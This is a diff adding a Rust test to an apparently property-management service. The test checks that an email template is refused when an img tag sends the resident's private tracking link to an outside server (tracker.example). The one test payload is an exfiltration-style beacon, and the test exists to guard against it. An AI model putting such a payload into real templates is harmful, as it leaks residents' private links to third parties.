@@ -530,6 +530,23 @@ async fn a_landlords_own_wording_replaces_the_default_and_a_broken_one_is_refuse
         .await;
         assert_eq!(fields(&p), [field], "{body}: {p}");
     }
+    // The resident's private link may stand only as text or as a link's whole href: nowhere
+    // a mail client would fetch it and hand it to someone else's server.
+    let p = expect_problem(
+        app.request(
+            Method::PUT,
+            &templates_url(&l, "/complaint_received"),
+            Some(admin),
+        )
+        .json(&json!({"html": "<p>Hello</p><img src=\"https://tracker.example/p.gif?u={{ tracking_url }}\" alt=\"\">"}))
+        .send()
+        .await
+        .unwrap(),
+        StatusCode::UNPROCESSABLE_ENTITY,
+    )
+    .await;
+    assert_eq!(fields(&p), ["html"], "{p}");
+    assert!(p.to_string().contains("private link"), "{p}");
     let p = expect_problem(
         app.request(
             Method::PUT,
